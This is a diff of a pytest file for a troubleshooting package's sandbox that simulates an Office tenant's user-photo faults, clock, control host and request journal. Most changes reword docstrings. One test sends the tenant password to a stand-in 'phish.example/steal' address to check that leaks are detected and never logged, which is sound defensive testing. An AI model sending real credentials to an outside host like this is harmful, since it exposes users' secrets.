@@ -1,5 +1,6 @@
-"""Starting, steering and stopping a sandbox."""
+"""Starting, controlling and stopping a sandbox."""
 
+import re
 import ssl
 import subprocess
 import sys
@@ -11,7 +12,7 @@ from troubleshooter import sandbox
 
 
 def test_a_list_of_faults_needs_no_server_and_no_drawing():
-    """The package is cheap to import."""
+    """Importing the package loads neither a web server nor a drawing library."""
     heavy = "{'starlette', 'PIL', 'jinja2'} & {*sys.modules}"
     code = f"import sys, troubleshooter.sandbox as sandbox; print(bool(sandbox.FAULTS), {heavy})"
     said = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout
@@ -19,7 +20,7 @@ def test_a_list_of_faults_needs_no_server_and_no_drawing():
 
 
 def test_every_fault_has_one_sentence():
-    """A list of faults can show them as they are."""
+    """Every description is one line that ends with a period, and the basic faults are there."""
     assert all(sentence.endswith(".") and "\n" not in sentence for sentence in sandbox.FAULTS.values())
     assert {
         "healthy", "stale-copy", "never-visited", "placeholder", "no-photo", "other-photo", "recropped", "broken-image",
@@ -29,13 +30,16 @@ def test_every_fault_has_one_sentence():
 
 @pytest.mark.parametrize("wrong", [{"fault": "fire"}, {"generation": "third"}])
 def test_an_unknown_name_is_refused_with_the_allowed_ones(wrong):
-    """Before anything is served."""
-    with pytest.raises(ValueError, match=r"no such one, allowed: .*(healthy|mailbox)"), sandbox.running(**wrong):
+    """The error lists the names that exist, before anything is served."""
+    with (
+        pytest.raises(ValueError, match=r"no such (fault|generation), allowed: .*(healthy|mailbox)"),
+        sandbox.running(**wrong),
+    ):
         pass
 
 
 def test_the_given_port_and_password_are_used():
-    """And a free port and a new password otherwise."""
+    """A given port and password are used; else the port is free and the password is new."""
     with sandbox.running() as one:
         port, password = one.port, one.password
     with sandbox.running(port=port, password="pa ss") as two:
@@ -43,8 +47,21 @@ def test_the_given_port_and_password_are_used():
     assert len(password) >= 12
 
 
+def test_tokens_begin_as_a_test_wants_them(enter):
+    """With a token prefix, cookies, sign-in parameters and the signatures of addresses begin with it."""
+    with sandbox.running(token_prefix="KNOWN") as running:
+        visitor = enter(running=running)
+        address = visitor.userphoto(running.subject).url
+        cookies = {value for jar in visitor.cookies.values() for value in jar.values()}
+        queries = [entry.query for entry in running.journal.requests if entry.path.endswith("/authorize")]
+        visitor.close()
+    assert cookies and all(value.startswith("KNOWN") for value in cookies)
+    assert queries and all("state=KNOWN" in query for query in queries)
+    assert re.search(r"_oat_=\d+_KNOWN", address)
+
+
 def test_a_run_knows_what_the_demo_needs(tenant):
-    """Names, addresses, accounts and pages."""
+    """A running sandbox provides names, addresses, accounts and pages."""
     assert tenant.subject == tenant.accounts["ana"] == "ana.popescu@contoso.com"
     assert {"helpdesk", "ioana"} <= set(tenant.accounts)
     assert len(tenant.pages) == 2
@@ -57,7 +74,7 @@ def test_a_run_knows_what_the_demo_needs(tenant):
 
 
 def test_the_end_does_not_wait_for_open_connections(stranger):
-    """One idle, one in the middle of a photo that never comes."""
+    """Neither an idle connection nor one that waits for a photo delays the end."""
     with sandbox.running("slow-images") as running:
         idle, waiting = type(stranger)(running), type(stranger)(running)
         idle.visit("https://www.office.com/")
@@ -77,7 +94,7 @@ def test_the_end_does_not_wait_for_open_connections(stranger):
 
 
 def test_requests_are_journaled_by_kind(tenant, stranger):
-    """The tenant's own hosts, calls to the browser's vendor, and anything else."""
+    """The journal distinguishes the tenant's own hosts, calls to the browser's vendor, and all others."""
     for host in ("www.office.com", "update.googleapis.com", "accounts.google.com", "login.microsoftonline.example"):
         stranger.ask(f"https://{host}/somewhere?x=1")
     assert [(entry.host, entry.kind, entry.status) for entry in tenant.journal.requests] == [
@@ -91,7 +108,7 @@ def test_requests_are_journaled_by_kind(tenant, stranger):
 
 @pytest.mark.parametrize("how", [{"data": {"x": "PASSWORD"}}, {"headers": {"Authorization": "Basic PASSWORD"}}, {}])
 def test_a_password_is_noticed_wherever_it_goes(tenant, stranger, how):
-    """In a body, in a header, in an address; but it is never written down."""
+    """A password in a body, a header or an address is noticed, and is never written down."""
     written = {kind: {k: v.replace("PASSWORD", tenant.password) for k, v in part.items()} for kind, part in how.items()}
     address = "https://phish.example/steal" + ("" if how else f"?p={tenant.password}")
     stranger.ask(address, **written)
@@ -100,7 +117,7 @@ def test_a_password_is_noticed_wherever_it_goes(tenant, stranger, how):
 
 
 def test_the_clock_moves_forward_only(tenant):
-    """A negative step is refused."""
+    """The clock refuses a negative step."""
     before = tenant.now()
     tenant.advance(3600)
     assert 3600 <= (tenant.now() - before).total_seconds() < 3660
@@ -108,14 +125,14 @@ def test_the_clock_moves_forward_only(tenant):
         tenant.advance(-1)
 
 
-def test_the_control_door_opens_on_its_own_name_only(tenant, stranger):
-    """Its paths mean nothing elsewhere."""
+def test_the_control_host_answers_on_its_own_name_only(tenant, stranger):
+    """The paths of the control host do not exist on other hosts."""
     assert stranger.ask("https://sandbox.invalid/state").status == 200
     assert stranger.ask("https://www.office.com/state").status == 404
 
 
-def test_another_process_can_steer_the_sandbox(tenant, stranger):
-    """State, time, fault, journal, reset."""
+def test_another_process_can_control_the_sandbox(tenant, stranger):
+    """Another process can read the state and the journal, advance the clock, switch the fault, and reset."""
     ask = stranger.ask
     state = ask("https://sandbox.invalid/state").json
     assert (state["fault"], state["subject"], state["pages"]) == ("healthy", tenant.subject, list(tenant.pages))
@@ -140,15 +157,15 @@ def test_another_process_can_steer_the_sandbox(tenant, stranger):
         ("advance", "nonsense", "Expecting value"),
     ],
 )
-def test_a_wrong_order_is_refused_with_its_reason(stranger, path, body, reason):
-    """And changes nothing."""
+def test_a_wrong_command_is_refused_with_its_reason(stranger, path, body, reason):
+    """A wrong command is answered with 400 and the reason."""
     answer = stranger.ask(f"https://sandbox.invalid/{path}", data=body)
     assert answer.status == 400
     assert reason in answer.json["error"]
 
 
 def test_the_fault_changes_while_it_is_served(tenant, enter):
-    """Sessions survive, stores do not."""
+    """A new fault replaces the stores, and sessions survive."""
     visitor = enter()
     assert visitor.properties(tenant.subject)["SPS-PicturePlaceholderState"] == "0"
     tenant.set_fault("placeholder")
